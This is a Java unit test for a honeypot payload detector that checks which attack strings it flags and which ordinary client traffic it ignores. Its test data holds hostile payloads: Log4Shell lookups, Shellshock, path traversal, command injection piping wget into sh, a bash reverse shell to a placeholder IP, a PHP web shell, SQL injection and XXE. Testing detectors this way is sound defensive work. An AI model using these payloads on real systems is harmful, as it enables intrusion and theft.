// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.detection;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.honeymesh.api.Captured;
import io.honeymesh.api.Contribution;
import io.honeymesh.api.Evidence;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PayloadPatternTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "GET / HTTP/1.1\\nX: ${jndi:ldap://192.0.2.1/a}~JNDI look-up (Log4Shell)",
                "${${lower:j}ndi:rmi://x}~JNDI look-up (Log4Shell)",
                "User-Agent: () { :;}; /bin/bash -c id~Shellshock",
                "GET /../../etc/hosts HTTP/1.0~path traversal",
                "GET /%2e%2e/%2e%2e/windows/win.ini~path traversal",
                "GET /?f=/etc/passwd~password file",
                "GET /ping?host=1.1.1.1;wget+x|sh ;wget x~command injection",
                "wget -q -O- http://192.0.2.1/x.sh~downloader",
                "/bin/busybox MIRAI~busybox probe",
                "bash -i >& /dev/tcp/192.0.2.1/4444~reverse shell",
                "<?php system($_GET[1]);~web shell",
                "id=1' or 1=1 --~SQL injection",
                "<!ENTITY x SYSTEM \"file:///etc/hosts\">~XML external entity"
            })
    void recognisesExploits(String payload, String what) {
        assertTrue(found(payload).stream().anyMatch(e -> e.startsWith(what)), found(payload)::toString);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
                "USER anonymous\r\nPASS guest@example.org\r\nSYST\r\nPASV\r\nLIST\r\nQUIT\r\n",
                "GET /search?q=cats+and+dogs;page=2&sort=asc HTTP/1.1\r\nCookie: a=b; c=d\r\n\r\n",
                ""
            })
    void staysSilentOnOrdinaryClients(String payload) {
        assertEquals(List.of(), found(payload));
    }

    @Test
    void readsBinaryPayloadsAndEvidence() {
        assertEquals(
                1,
                judge("\u0090".repeat(16).getBytes(StandardCharsets.ISO_8859_1)).size());
        assertEquals(
                0,
                judge("\u0090".repeat(15).getBytes(StandardCharsets.ISO_8859_1)).size());
        List<Contribution> fromCommand = new PayloadPattern()
                .judge(
                        Samples.conversation(
                                new byte[0], new Evidence.Command(Captured.of("curl http://192.0.2.1/\u001b[2J"))),
                        Samples.NO_HISTORY);
        assertEquals(1, fromCommand.size());
        assertTrue(fromCommand.getFirst().explanation().chars().allMatch(c -> c >= 0x20 && c < 0x7f));
    }

    @Test
    void S12_timeGrowsLinearlyWithHostileInput() {
        long small = operations("${".repeat(8_000));
        long large = operations("${".repeat(32_000));
        assertTrue(
                large < 40 * Math.max(small, 1_000_000), small + " ns, then " + large + " ns for four times as much");
    }

    private static long operations(String payload) {
        byte[] bytes = payload.getBytes(StandardCharsets.ISO_8859_1);
        judge(bytes);
        long start = System.nanoTime();
        judge(bytes);
        return System.nanoTime() - start;
    }

    private static List<Contribution> judge(byte[] payload) {
        return new PayloadPattern().judge(Samples.conversation(payload), Samples.NO_HISTORY);
    }

    private static List<String> found(String payload) {
        return judge(payload.getBytes(StandardCharsets.ISO_8859_1)).stream()
                .map(Contribution::explanation)
                .toList();
    }
}
